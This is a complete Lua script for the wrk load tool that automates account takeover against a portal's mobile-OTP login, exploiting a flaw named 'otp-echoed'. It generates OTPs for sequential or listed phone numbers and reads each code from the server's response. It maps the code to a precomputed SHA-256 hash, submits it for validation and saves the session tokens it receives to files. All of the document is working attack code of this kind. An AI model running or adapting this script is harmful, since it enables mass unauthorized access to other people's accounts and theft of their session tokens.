-- Signs in at the portal: an OTP for one mobile after another, read from the answer (the registry
-- has the weakness otp-echoed) and sent back.
-- wrk ... -s otp.lua URL -- HASHES FIRST-MOBILE       until wrk ends
-- wrk ... -s otp.lua URL -- HASHES FIRST-MOBILE bare  the same requests, whatever is answered
-- wrk ... -s otp.lua URL -- HASHES FILE OUT           the mobiles of FILE, once each; each thread
--     writes the tokens to a file of its own, OUT.N, with what stood behind the mobile. Needs as
--     many connections as threads: wrk does not say which request an answer belongs to.
-- HASHES holds the SHA-256 of 000000, 000001 and so on, as hexadecimal text without line ends.
local threads = 0
local path = "/api/v2/auth/"
local hashes, lines, name, out, mobile, bare, rest, checked
local transactions, first, last = {}, 1, 0
local seen = 0

function setup(thread)
    thread:set("number", threads)
    threads = threads + 1
end

-- Files are read whole and closed: wrk counts on low descriptors for its connections.
local function read(path)
    local file = assert(io.open(path))
    local text = file:read("*a")
    file:close()
    return text
end

function init(args)
    hashes = read(args[1])
    wrk.headers["Content-Type"] = "application/json"
    bare = args[3] == "bare"
    if args[3] and not bare then
        lines = read(args[2] .. "." .. number):gmatch("[^\n]+")
        name, out = args[3] .. "." .. number, {}
    else
        -- Threads count in steps far apart.
        mobile = tonumber(args[2]) + number * 10000000
    end
end

local function generate(to)
    local body = '{"mobile":"' .. to .. '","secret":"x"}'
    return wrk.format("POST", path .. "generateMobileOTP", nil, body)
end

local function confirm(transaction, hash)
    local body = '{"otp":"' .. hash .. '","txnId":"' .. transaction .. '"}'
    return wrk.format("POST", path .. "validateMobileOtp", nil, body)
end

local function next_mobile()
    if not lines then
        mobile = mobile + 1
        return mobile
    end
    local line = lines()
    if not line then return nil end
    local to
    to, rest = line:match("^(%d+)(.*)$")
    return to
end

local function write_tokens()
    local file = assert(io.open(name .. ".part", "w"))
    file:write(table.concat(out))
    file:close()
    os.rename(name .. ".part", name)
    out = nil
end

function request()
    -- wrk asks the first thread once before it begins, and throws that request away.
    if number == 0 and not checked then
        checked = true
        return wrk.format("GET", "/")
    end
    seen = seen + 1
    if bare and seen % 2 == 0 then
        return confirm("3fa85f64-5717-4562-b3fc-2c963f66afa6", hashes:sub(1, 64))
    end
    if last >= first then
        local known = transactions[first]
        transactions[first] = nil
        first = first + 1
        return confirm(known[1], known[2])
    end
    local to = next_mobile()
    if to then return generate(to) end
    if out then write_tokens() end
    wrk.thread:stop()
    return wrk.format("GET", "/")
end

function response(_, _, body)
    if bare then return end
    local transaction, otp = body:match('"txnId":"([^"]+)","otp":"(%d+)"')
    if transaction then
        local place = tonumber(otp) * 64
        last = last + 1
        transactions[last] = { transaction, hashes:sub(place + 1, place + 64) }
    elseif out then
        local token = body:match('"token":"([^"]+)"')
        if token then out[#out + 1] = token .. rest .. "\n" end
    end
end
